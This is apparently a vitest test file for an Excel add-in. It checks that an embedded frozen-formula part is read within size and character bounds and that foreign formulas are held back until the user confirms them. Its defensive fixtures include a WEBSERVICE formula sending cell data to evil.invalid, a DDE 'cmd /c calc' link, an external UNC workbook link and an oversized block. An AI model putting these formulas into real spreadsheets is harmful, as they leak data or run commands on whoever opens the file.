import { describe, expect, it } from 'vitest';
import { restoreFormulas } from '../../addin/src/taskpane/freeze';
import { notTheAddins } from '../../addin/src/taskpane/addin-formulas';
import { confirmationKey, FreezeError, planRestore, type FrozenCell } from '../../addin/src/taskpane/freeze-plan';
import { FROZEN_LIMITS, FROZEN_NAMESPACE, parseFrozen, serializeFrozen } from '../../addin/src/taskpane/freeze-xml';
import type { SheetModel } from '../../addin/src/taskpane/workbook-model';
import { FakeSheet, FakeWorkbookState, installFakeExcel } from '../../fixtures/fake-excel';

/**
 * Issue 29: a frozen-formula part comes with the workbook, so whoever sent the file wrote it.
 * Its reader is bounded (dimensions, size) and refuses the characters its writer refuses; a
 * restore puts back only SVC's own formulas unless the user confirms the others.
 */
const cell = (over: Partial<FrozenCell> = {}): FrozenCell => ({
  sheet: 'Sheet1',
  row: 1,
  column: 1,
  rows: 1,
  columns: 1,
  formula: '=SVC.MIDVALUE(A2)',
  formats: [['General']],
  value: 1000,
  currency: 'USD',
  assetId: 'SVC-WAT-ROLEX-X',
  asOf: '2026-11-26T00:00:00.000Z',
  ...over,
});
const part = (cellsXml: string) => `<?xml version="1.0" encoding="UTF-8"?>\n<frozen xmlns="${FROZEN_NAMESPACE}" version="1" frozenAt="2026-11-26T00:00:00.000Z">\n${cellsXml}</frozen>\n`;
const cellXml = (attrs: string, inner = '<formula>=SVC.MIDVALUE(A2)</formula><formats><f>General</f></formats>') =>
  `  <cell sheet="Sheet1" row="1" column="1" rows="1" columns="1" type="number" value="1000" currency="USD" assetId="X" asOf="2026-11-26T00:00:00.000Z" ${attrs}>${inner}</cell>\n`.replace(/ (rows|columns|row|sheet)="[^"]*"(?=.* \1=")/g, '');

describe('the frozen-part reader is bounded', () => {
  it('a part declaring 1,048,576 × 16,384 cells is refused before any block is built, naming the size', () => {
    const hostile = part(cellXml('rows="1048576" columns="16384"'));
    expect(() => parseFrozen(hostile)).toThrow(FreezeError);
    expect(() => parseFrozen(hostile)).toThrow(
      "The workbook's frozen-formula part is damaged or was not written by SVC (it declares a block of 1,048,576 × 16,384 cells, past the 500,000 cells in all SVC writes); nothing was restored from it.",
    );
  });

  it('blocks within the total but outside Excel\'s grid, or without a format per cell, are refused', () => {
    expect(() => parseFrozen(part(cellXml('row="1048575" rows="2"', '<formula>=SVC.MIDVALUE(A2)</formula><formats><f>General</f></formats><formats><f>General</f></formats>')))).toThrow(/does not fit Excel's grid/);
    expect(() => parseFrozen(part(cellXml('rows="2"')))).toThrow(/does not carry a format for each of its cells/);
    expect(() => parseFrozen(part(cellXml('rows="0"', '<formula>=SVC.MIDVALUE(A2)</formula>')))).toThrow(/does not fit Excel's grid/);
    expect(() => parseFrozen(part(cellXml('rows="1e3"')))).toThrow(/does not carry a format/);
    expect(() => parseFrozen(part(cellXml('rows="-1"')))).toThrow(/has no valid rows/);
  });

  it('more formulas or characters than SVC writes are refused; the writer refuses to write them too', () => {
    const many = part(cellXml('').repeat(FROZEN_LIMITS.formulas + 1));
    expect(() => parseFrozen(many)).toThrow(/50,001 frozen formulas, more than the 50,000 SVC writes/);
    expect(() => parseFrozen(part(cellXml('') + `<!--${'x'.repeat(FROZEN_LIMITS.chars)}-->`))).toThrow(/characters, more than the 32,000,000 SVC writes/);
    expect(() => serializeFrozen(Array.from({ length: FROZEN_LIMITS.formulas + 1 }, (_, i) => cell({ row: i })), new Date())).toThrow(/at most 50,000 frozen formulas over 500,000 cells/);
    const wide = cell({ rows: 1000, columns: 501, formats: Array.from({ length: 1000 }, () => Array<string>(501).fill('General')) });
    expect(() => serializeFrozen([wide], new Date())).toThrow(/over 501,000/);
    // At the bounds themselves, what is written reads back.
    expect(parseFrozen(serializeFrozen([cell({ rows: 1000, columns: 500, formats: Array.from({ length: 1000 }, () => Array<string>(500).fill('General')) })], new Date()))).toHaveLength(1);
  });

  it.each([
    ['NUL as a character reference in the formula', cellXml('', '<formula>=SVC.MIDVALUE(A2)&#0;</formula><formats><f>General</f></formats>')],
    ['ESC as a character reference in the formula', cellXml('', '<formula>=SVC.MIDVALUE("&#27;[31m")</formula><formats><f>General</f></formats>')],
    ['ESC as a hex reference in the sheet name', cellXml('sheet="S&#x1b;"')],
    ['a literal ESC in a format', cellXml('', '<formula>=SVC.MIDVALUE(A2)</formula><formats><f>Gen\u001beral</f></formats>')],
    ['a literal vertical tab in the asset id', cellXml('assetId="X\u000bY"')],
  ])('%s is refused, as the writer refuses it', (_, xml) => {
    expect(() => parseFrozen(part(xml))).toThrow(/control character, which SVC never writes|damaged/);
    expect(() => parseFrozen(part(xml))).toThrow(FreezeError);
  });

  it('tabs and line ends, which the writer keeps, still read back', () => {
    const c = cell({ formula: '=SVC.MIDVALUE(A2,\r\n\t"USD")' });
    expect(parseFrozen(serializeFrozen([c], new Date()))).toEqual([c]);
  });
});

describe("restore puts back only SVC's own formulas unless the user confirms the others", () => {
  it.each([
    ['=SVC.MIDVALUE(A2)', []],
    ['=_xldudf_SVC_MIDVALUE(A2, "EUR")', []],
    ['=SVC.MIDVALUE("WEBSERVICE(x)")&SVC.SCORE(A2)', []],
    ['=SVC.MIDVALUE(A2)&WEBSERVICE("https://evil.invalid/?"&A2)', ['WEBSERVICE']],
    ['=WEBSERVICE("https://evil.invalid/?"&A2)', ['WEBSERVICE', 'no SVC function']],
    ['=_xlfn.WEBSERVICE(A1)+SVC.SCORE(A2)', ['_XLFN.WEBSERVICE']],
    ['=IF(A2="","",SVC.SCORE(A2))', ['IF']],
    ['=SVC.MIDVALUE([1]Sheet1!A2)', ['a link to another workbook or a table']],
    ["=SVC.MIDVALUE('\\\\host\\share\\[Book.xlsx]Sheet1'!A2)", ['a link to another workbook']],
    ["=SVC.MIDVALUE(cmd|' /c calc'!A0)", ['a DDE link']],
    ["=SVC.MIDVALUE('Q3 holdings'!A2)", []],
    ['=A2*2', ['no SVC function']],
  ])('%s: %j', (formula, outside) => {
    expect(notTheAddins(formula)).toEqual(outside);
  });

  const sheets: SheetModel[] = [{ name: 'Sheet1', rowIndex: 0, columnIndex: 0, formulas: [[], ['', 1000], ['', 1000]], values: [[], ['', 1000], ['', 1000]], numberFormat: [] }];
  const own = cell();
  const foreign = cell({ row: 2, formula: '=SVC.MIDVALUE(A3)&WEBSERVICE("https://evil.invalid/?"&A3)' });

  it('plans SVC formulas at once, lists the others, and writes one only when exactly that formula at that address is confirmed', () => {
    const plan = planRestore([own, foreign], sheets);
    expect(plan.writes.map((w) => w.cell)).toEqual([own]);
    expect(plan.others).toEqual([{ address: 'Sheet1!B3', formula: foreign.formula, outside: ['WEBSERVICE'] }]);
    const confirmed = planRestore([own, foreign], sheets, new Set(plan.others.map(confirmationKey)));
    expect(confirmed.writes.map((w) => w.cell)).toEqual([own, foreign]);
    expect(confirmed.others).toEqual([]);
    // A part edited after the question: the confirmation was for other text, so it is asked again.
    const edited = { ...foreign, formula: '=SVC.MIDVALUE(A3)&WEBSERVICE("https://other.invalid/")' };
    expect(planRestore([edited], sheets, new Set(plan.others.map(confirmationKey))).writes).toEqual([]);
    expect(planRestore([{ ...foreign, row: 1 }], sheets, new Set(plan.others.map(confirmationKey))).writes).toEqual([]);
  });

  it('in the workbook: the SVC formula comes back, the WEBSERVICE one stays a value and recorded until confirmed', async () => {
    const state = new FakeWorkbookState();
    const s = new FakeSheet('Sheet1');
    s.set(1, 1, { value: 1000 });
    s.set(2, 1, { value: 1000 });
    state.sheets.push(s);
    state.addPart(serializeFrozen([own, foreign], new Date()));
    installFakeExcel(state);
    const r = await restoreFormulas();
    expect(r).toEqual({ restored: 1, changed: [], others: [{ address: 'Sheet1!B3', formula: foreign.formula, outside: ['WEBSERVICE'] }] });
    expect(s.get(1, 1)!.formula).toBe(own.formula);
    expect(s.get(2, 1)).toMatchObject({ formula: null, value: 1000 });
    expect(parseFrozen(state.parts[0]!.xml)).toEqual([foreign]);
    expect(await restoreFormulas(new Date(), new Set(r.others.map(confirmationKey)))).toEqual({ restored: 1, changed: [], others: [] });
    expect(s.get(2, 1)!.formula).toBe(foreign.formula);
    expect(state.parts).toEqual([]);
  });

  it('a hostile part is refused in the workbook with the message, and no cell changes', async () => {
    const state = new FakeWorkbookState();
    const s = new FakeSheet('Sheet1');
    s.set(1, 1, { value: 1000 });
    state.sheets.push(s);
    state.addPart(part(cellXml('rows="1048576" columns="16384"')));
    installFakeExcel(state);
    await expect(restoreFormulas()).rejects.toThrow(/declares a block of 1,048,576 × 16,384 cells/);
    expect(s.get(1, 1)).toMatchObject({ formula: null, value: 1000 });
  });
});
